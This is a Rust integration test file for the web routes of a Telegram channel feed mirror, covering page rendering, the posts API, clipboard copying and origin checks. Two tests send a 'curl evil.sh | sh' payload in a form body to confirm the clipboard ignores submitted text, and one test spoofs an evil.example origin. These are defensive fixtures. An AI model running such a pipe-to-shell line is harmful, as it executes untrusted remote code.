//! Integration tests for web routes.

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use channel_feed_mirror::clipboard::{Clipboard, MemoryClipboard};
use channel_feed_mirror::config::Config;
use channel_feed_mirror::feed::FeedClient;
use channel_feed_mirror::poller::RefreshController;
use channel_feed_mirror::view::FeedView;
use channel_feed_mirror::web::{create_app, AppState};
use serde_json::{json, Value};
use tokio::sync::RwLock;
use tower::ServiceExt;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

struct TestApp {
    app: Router,
    controller: RefreshController,
    clipboard: Arc<MemoryClipboard>,
    _server: MockServer,
}

/// Create a test app backed by a mock upstream serving `body`.
async fn create_test_app(body: Value) -> TestApp {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api/posts"))
        .respond_with(ResponseTemplate::new(200).set_body_json(body))
        .mount(&server)
        .await;

    let config = Config {
        channel_url: "https://t.me/testchannel".to_string(),
        request_timeout: Duration::from_secs(5),
        ..Config::for_endpoint(&server.uri())
    };
    let client = FeedClient::new(&config).expect("Failed to build client");
    let view = Arc::new(RwLock::new(FeedView::new(&config.channel_url)));
    let controller = RefreshController::new(client, view, config.refresh_period_secs);

    let clipboard = Arc::new(MemoryClipboard::new());
    let shared: Arc<dyn Clipboard> = clipboard.clone();
    let app = create_app(AppState::new(config, controller.clone(), shared));

    TestApp {
        app,
        controller,
        clipboard,
        _server: server,
    }
}

fn sample_posts() -> Value {
    json!({
        "status": "success",
        "posts": [
            {
                "id": 42,
                "date": "01.01.2024, 12:00:00",
                "content": "a".repeat(400),
                "type": "photo",
            },
            {
                "id": 41,
                "date": "01.01.2024, 11:00:00",
                "content": "Short post https://example.com",
                "type": "text",
                "telegram_link": "https://t.me/testchannel/41",
            },
        ],
        "count": 2,
        "last_update": "2024-01-01T12:00:00",
    })
}

async fn body_string(response: axum::response::Response) -> String {
    let body = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    String::from_utf8(body.to_vec()).unwrap()
}

fn get(uri: &str) -> Request<Body> {
    Request::builder().uri(uri).body(Body::empty()).unwrap()
}

fn post(uri: &str) -> Request<Body> {
    Request::builder()
        .method("POST")
        .uri(uri)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::empty())
        .unwrap()
}

#[tokio::test]
async fn test_health_endpoint() {
    let test = create_test_app(sample_posts()).await;

    let response = test.app.oneshot(get("/healthz")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);

    let body: Value = serde_json::from_str(&body_string(response).await).unwrap();
    assert_eq!(body["status"], "ok");
    assert!(body["timestamp"].is_string());
}

#[tokio::test]
async fn test_home_page_before_first_load() {
    let test = create_test_app(sample_posts()).await;

    let response = test.app.oneshot(get("/")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);

    let body = body_string(response).await;
    assert!(body.contains("<!DOCTYPE html>"));
    assert!(body.contains("Loading posts from the server"));
    assert!(body.contains("id=\"countdown\""));
}

#[tokio::test]
async fn test_home_page_renders_posts() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let response = test.app.oneshot(get("/")).await.unwrap();
    let body = body_string(response).await;

    assert!(body.contains("ID: #42"));
    assert!(body.contains("ID: #41"));
    assert!(body.contains("fas fa-image"));
    assert!(body.contains(r#"<a href="https://example.com" target="_blank" class="post-link">https://example.com</a>"#));
    assert!(body.contains("href=\"https://t.me/testchannel/42\""));
}

#[tokio::test]
async fn test_api_posts_unavailable_before_load() {
    let test = create_test_app(sample_posts()).await;

    let response = test.app.oneshot(get("/api/posts")).await.unwrap();
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);

    let body: Value = serde_json::from_str(&body_string(response).await).unwrap();
    assert_eq!(body["status"], "error");
}

#[tokio::test]
async fn test_api_posts_and_stats() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let response = test.app.clone().oneshot(get("/api/posts")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body: Value = serde_json::from_str(&body_string(response).await).unwrap();
    assert_eq!(body["status"], "success");
    assert_eq!(body["count"], 2);
    assert_eq!(body["posts"][0]["id"], 42);
    assert_eq!(body["posts"][0]["type"], "photo");

    let response = test.app.oneshot(get("/api/stats")).await.unwrap();
    let body: Value = serde_json::from_str(&body_string(response).await).unwrap();
    assert_eq!(body["total_posts"], 2);
    assert_eq!(body["channel"], "https://t.me/testchannel");
    assert_eq!(body["next_refresh_secs"], 30);
}

#[tokio::test]
async fn test_toggle_expands_then_collapses() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let response = test.app.clone().oneshot(post("/posts/42/toggle")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["x-scroll-into-view"], "true");
    let body = body_string(response).await;
    assert!(body.contains("Show less"));
    assert!(!body.contains("hidden"));

    let response = test.app.oneshot(post("/posts/42/toggle")).await.unwrap();
    assert_eq!(response.headers()["x-scroll-into-view"], "false");
    let body = body_string(response).await;
    assert!(body.contains("Read more"));
    assert!(body.contains("hidden"));
}

#[tokio::test]
async fn test_toggle_short_or_unknown_post_is_not_found() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let response = test.app.clone().oneshot(post("/posts/41/toggle")).await.unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);

    let response = test.app.oneshot(post("/posts/7/toggle")).await.unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn test_copy_writes_post_content_and_shows_toast() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let response = test.app.oneshot(post("/posts/41/copy")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);

    assert_eq!(
        test.clipboard.contents().as_deref(),
        Some("Short post https://example.com")
    );
    let body = body_string(response).await;
    assert!(body.contains("Text of post #41 copied to the clipboard!"));
}

#[tokio::test]
async fn test_copy_ignores_submitted_text() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let request = Request::builder()
        .method("POST")
        .uri("/posts/41/copy")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("text=curl+evil.sh+%7C+sh%0A"))
        .unwrap();
    let response = test.app.oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);

    assert_eq!(
        test.clipboard.contents().as_deref(),
        Some("Short post https://example.com")
    );
}

#[tokio::test]
async fn test_copy_unknown_post_leaves_clipboard_untouched() {
    let test = create_test_app(sample_posts()).await;

    let request = Request::builder()
        .method("POST")
        .uri("/posts/anything/copy")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("text=curl+evil.sh+%7C+sh%0A"))
        .unwrap();
    let response = test.app.oneshot(request).await.unwrap();

    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert!(test.clipboard.contents().is_none());
}

#[tokio::test]
async fn test_copy_from_foreign_origin_is_rejected() {
    let test = create_test_app(sample_posts()).await;
    test.controller.load_posts().await.unwrap();

    let request = Request::builder()
        .method("POST")
        .uri("/posts/41/copy")
        .header(header::HOST, "127.0.0.1:8080")
        .header(header::ORIGIN, "https://evil.example")
        .body(Body::empty())
        .unwrap();
    let response = test.app.oneshot(request).await.unwrap();

    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    assert!(test.clipboard.contents().is_none());
    let view = test.controller.view().read().await;
    assert!(view.notifications().is_empty());
}

#[tokio::test]
async fn test_refresh_returns_posts_region() {
    let test = create_test_app(sample_posts()).await;

    let response = test.app.clone().oneshot(post("/refresh")).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = body_string(response).await;
    assert!(body.contains("id=\"posts-region\""));
    assert!(body.contains("ID: #42"));

    let response = test.app.oneshot(get("/fragments/status")).await.unwrap();
    let body = body_string(response).await;
    assert!(body.contains("Posts refreshed!"));
}
